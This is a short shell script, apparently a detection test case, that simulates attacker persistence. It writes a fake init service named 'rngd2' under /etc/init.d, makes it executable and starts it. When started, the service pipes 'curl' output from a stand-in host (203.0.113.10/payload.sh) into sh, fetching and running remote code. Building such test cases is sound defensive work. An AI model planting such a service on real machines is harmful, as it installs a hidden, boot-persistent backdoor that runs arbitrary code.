#!/bin/sh
. /opt/case/case.sh

printf '#!/bin/sh\n### BEGIN INIT INFO\n# Provides: rngd2\n# Default-Start: 2 3 4 5\n### END INIT INFO\ncase $1 in start) (curl -s http://203.0.113.10/payload.sh | sh) & ;; status) exit 0 ;; esac\n' >/etc/init.d/rngd2
chmod 755 /etc/init.d/rngd2
service rngd2 start
wait_for /tmp/reached
took_place
